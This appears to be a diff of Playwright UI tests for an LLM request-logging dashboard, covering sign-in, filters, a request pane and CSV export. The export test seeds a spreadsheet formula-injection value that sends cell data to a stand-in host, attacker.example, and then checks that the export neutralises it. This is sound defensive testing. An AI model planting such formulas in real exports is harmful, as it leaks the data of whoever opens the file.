@@ -1,4 +1,4 @@
-"""The UI in a real Chromium: sign-in, requests, filters, the drawer, export, sessions."""
+"""The UI in a real Chromium: sign-in, requests, filters, the request pane, export, the switcher."""
 
 from __future__ import annotations
 
@@ -8,21 +8,19 @@ import io
 import re
 from typing import Any
 
-import httpx
-
 from helioscope.store.log import requests
-from tests.ui.conftest import T0, World, open_requests, row, shot, sign_in
+from tests.ui.conftest import (
+    SESSION_LOOP,
+    T0,
+    World,
+    api,
+    open_requests,
+    row,
+    shot,
+    sign_in,
+)
 
-
-async def api_count(world: World, body: dict[str, Any], key: str | None = None) -> int:
-    async with httpx.AsyncClient(base_url=world.hs.url) as http:
-        response = await http.post(
-            "/v1/request/count/query",
-            json=body,
-            headers={"authorization": f"Bearer {key or world.hs.key}"},
-        )
-    count: int = response.json()["data"]
-    return count
+pytestmark = SESSION_LOOP
 
 
 async def test_sign_in_refuses_a_bad_key_then_lists_requests(world: World, page: Any) -> None:
@@ -33,13 +31,11 @@ async def test_sign_in_refuses_a_bad_key_then_lists_requests(world: World, page:
     await shot(page, "signin-error")
     await sign_in(page, world.hs.url, world.hs.key)
     await open_requests(page)
-    total = await api_count(world, {"filter": "all"})
+    total = await api(world, "POST", "/v1/request/count/query", {"filter": "all"})
     assert total == 12
     await page.get_by_text("12 requests").wait_for()
-    rows = page.locator("table.data tbody tr")
-    assert await rows.count() == 12
-    assert await page.get_by_text("req-rival-secret").count() == 0
-    await shot(page, "requests")
+    assert await page.locator("table.data tbody tr").count() == 12
+    assert await page.get_by_text("req-rival").count() == 0
     # A request from two days ago: in "All time", not in "Last 24 hours".
     await world.hs.services.store.log.write_batch(
         [row(world.hs.org_id, "req-old", 0, request_created_at=T0 - dt.timedelta(days=2))]
@@ -59,11 +55,10 @@ async def test_filter_by_property_matches_the_api(world: World, page: Any) -> No
     await page.get_by_label("Value for Property").fill("prod")
     await page.get_by_role("button", name="Apply filters").click()
     tree = {"request_response_rmt": {"properties": {"env": {"equals": "prod"}}}}
-    expected = await api_count(world, {"filter": tree})
+    expected = await api(world, "POST", "/v1/request/count/query", {"filter": tree})
     assert expected == 4  # three seeded rows and the gateway call
     await page.get_by_text(f"{expected} requests").wait_for()
     assert await page.locator("table.data tbody tr").count() == expected
-    await shot(page, "requests-filtered")
 
     # An "or" group: env = prod, or model = gpt-4o (the hotel request is env=dev).
     await page.get_by_role("button", name="+ Group").click()
@@ -77,37 +72,53 @@ async def test_filter_by_property_matches_the_api(world: World, page: Any) -> No
         "operator": "or",
         "right": {"request_response_rmt": {"model": {"equals": "gpt-4o"}}},
     }
-    assert await api_count(world, {"filter": either}) == 5
+    assert await api(world, "POST", "/v1/request/count/query", {"filter": either}) == 5
     await page.get_by_text("5 requests").wait_for()
     await shot(page, "requests-filter-groups")
 
 
-async def test_drawer_renders_chat_with_tool_call_and_image(world: World, page: Any) -> None:
+async def test_request_pane_renders_chat_tool_call_and_feedback(world: World, page: Any) -> None:
     await sign_in(page, world.hs.url, world.hs.key)
     await open_requests(page)
     await page.get_by_role("row", name=re.compile("req-trip-hotel")).click()
-    drawer = page.get_by_role("dialog")
-    await drawer.get_by_text("lookup_city").wait_for()
-    await drawer.get_by_role("img", name="image in the message").wait_for()
-    assert await drawer.get_by_text("You are a travel agent.").count() == 1
-    assert await drawer.get_by_text("accuracy").count() == 1
-    await shot(page, "request-drawer")
-    await page.emulate_media(color_scheme="dark")
-    await shot(page, "request-drawer-dark")
-    await page.emulate_media(color_scheme="light")
-    await drawer.get_by_role("button", name="Rate good").click()
-    await drawer.get_by_text("Rated good").wait_for()
+    pane = page.locator(".detail-pane")
+    await pane.get_by_text("lookup_city").wait_for()
+    await pane.get_by_role("img", name="image in the message").wait_for()
+    assert await pane.get_by_text("You are a travel agent.").count() == 1
+    # Scores read as people name them: the boolean's stored suffix is not shown.
+    assert await pane.get_by_text("helpful", exact=True).count() == 1
+    assert await pane.get_by_text("-hcone-bool").count() == 0
+    # A pane beside the table, not a modal over it.
+    assert await page.get_by_role("dialog").count() == 0
+    assert await page.locator("table.data tbody tr").first.is_visible()
+    await pane.get_by_role("button", name="Rate good").click()
+    await pane.get_by_text("Rated good").wait_for()
     stored = await world.hs.services.store.log.org(world.hs.org_id).read(
         requests.get_request, "req-trip-hotel"
     )
     assert stored is not None and stored["feedback_rating"] is True
-    await drawer.get_by_role("tab", name="Response JSON").click()
-    await drawer.get_by_text('"lookup_city"', exact=False).first.wait_for()
+    await pane.get_by_role("tab", name="Response JSON").click()
+    await pane.get_by_text('"lookup_city"', exact=False).first.wait_for()
     await page.keyboard.press("Escape")
-    assert await page.get_by_role("dialog").count() == 0
+    await pane.wait_for(state="hidden")
+    assert "req-trip-hotel" not in page.url
 
 
-async def test_export_csv_pages_through_the_filtered_set(world: World, page: Any) -> None:
+async def test_export_csv_pages_through_the_filtered_set_and_defuses_formulas(
+    world: World, page: Any
+) -> None:
+    formula = '=HYPERLINK("https://attacker.example/?d="&A1,"click")'
+    await world.hs.services.store.log.write_batch(
+        [
+            row(
+                world.hs.org_id,
+                "req-formula",
+                20,
+                user_id="+1-555",
+                properties={"env": "dev", "note": formula},
+            )
+        ]
+    )
     await sign_in(page, world.hs.url, world.hs.key)
     await open_requests(page)
     await page.get_by_role("button", name="Filters").click()
@@ -115,15 +126,19 @@ async def test_export_csv_pages_through_the_filtered_set(world: World, page: Any
     await page.get_by_label("Property name").fill("env")
     await page.get_by_label("Value for Property").fill("dev")
     await page.get_by_role("button", name="Apply filters").click()
-    await page.get_by_text("7 requests").wait_for()
+    await page.get_by_text("8 requests").wait_for()
     async with page.expect_download() as info:
         await page.get_by_role("button", name="Export CSV").click()
     download = await info.value
     path = await download.path()
     table = list(csv.DictReader(io.StringIO(path.read_text())))
-    assert len(table) == 7
-    assert {r["request_id"] for r in table} >= {"req-trip-hotel", "req-bulk-0"}
-    assert all('"env": "dev"' in r["properties"] or '"env":"dev"' in r["properties"] for r in table)
+    assert len(table) == 8
+    assert {r["request_id"] for r in table} >= {"req-trip-hotel", "req-bulk-0", "req-formula"}
+    [defused] = [r for r in table if r["request_id"] == "req-formula"]
+    # OWASP: a cell starting with = + - @ gets a leading ' and stays text; numbers stay numbers.
+    assert defused["request_user_id"] == "'+1-555"
+    assert defused["response_status"] == "200"
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in table for v in r.values())
 
 
 async def test_organization_switcher_scopes_every_page(world: World, page: Any) -> None:
@@ -137,58 +152,15 @@ async def test_organization_switcher_scopes_every_page(world: World, page: Any) 
     await page.get_by_text("12 requests").wait_for()
 
 
-async def test_session_list_and_trace_tree(world: World, page: Any) -> None:
-    await sign_in(page, world.hs.url, world.hs.key)
-    await page.get_by_role("link", name="Sessions").click()
-    await page.get_by_role("row", name=re.compile("trip-1")).wait_for()
-    assert await page.locator("table.data tbody tr").count() == 2
-    # Two sessions of 4 and 1 requests: the histogram's average is 2.5.
-    await page.locator("#session-metrics").get_by_text("average 2.5").wait_for()
-    await shot(page, "sessions")
-    await page.get_by_label("Search sessions").fill("support")
-    await page.get_by_role("button", name="Search").click()
-    await page.get_by_role("row", name=re.compile("trip-1")).wait_for(state="detached")
-    assert await page.locator("table.data tbody tr").count() == 1
-    await page.get_by_label("Search sessions").fill("")
-    await page.get_by_role("button", name="Search").click()
-    await page.get_by_role("row", name=re.compile("trip-1")).click()
-    tree = page.locator("ul.tree")
-    await tree.get_by_text("hotel", exact=True).wait_for()
-    # /plan holds its own request and those of /plan/hotel and /plan/flight.
-    await tree.get_by_text("/plan · 3 requests").wait_for()
-    assert await page.locator("svg.waterfall rect.bar-rect").count() == 4
-    await shot(page, "session")
-    await page.locator("svg.waterfall g.bar").nth(2).click()
-    await page.get_by_role("dialog").get_by_text("lookup_city").wait_for()
-    await shot(page, "session-drawer")
-
-
-async def test_keyboard_opens_and_closes_the_drawer_and_columns_change(
-    world: World, page: Any
-) -> None:
+async def test_keyboard_opens_and_closes_the_pane(world: World, page: Any) -> None:
     await sign_in(page, world.hs.url, world.hs.key)
     await open_requests(page)
-    row = page.get_by_role("row", name=re.compile("req-trip-hotel"))
-    await row.focus()
+    hotel = page.get_by_role("row", name=re.compile("req-trip-hotel"))
+    await hotel.focus()
     await page.keyboard.press("Enter")
-    drawer = page.get_by_role("dialog")
-    await drawer.get_by_text("lookup_city").wait_for()
-    assert await page.evaluate("document.activeElement.getAttribute('aria-label')") == (
-        "Close details"
-    )
-    # Focus stays in the dialog: Shift+Tab from its first control wraps to its last.
-    await page.keyboard.press("Shift+Tab")
-    assert await page.evaluate("!!document.activeElement.closest('.drawer')")
+    pane = page.locator(".detail-pane")
+    await pane.get_by_text("lookup_city").wait_for()
+    assert await page.evaluate("document.activeElement.id") == "pane-title"
     await page.keyboard.press("Escape")
-    assert await drawer.count() == 0
-    assert "req-trip-hotel" in (await page.evaluate("document.activeElement.ariaLabel"))
-
-    await page.get_by_text("Columns", exact=True).click()
-    await page.get_by_role("checkbox", name="Response").uncheck()
-    await page.get_by_role("checkbox", name="Session").check()
-    await page.keyboard.press("Escape")
-    headers = await page.locator("table.data thead th").all_inner_texts()
-    assert "Response" not in headers and "Session" in headers
-    assert await page.get_by_role("cell", name="trip-1", exact=True).count() == 4
-    await page.set_viewport_size({"width": 760, "height": 900})
-    await shot(page, "requests-narrow")
+    await pane.wait_for(state="hidden")
+    assert "req-trip-hotel" in (await page.evaluate("document.activeElement.ariaLabel") or "")
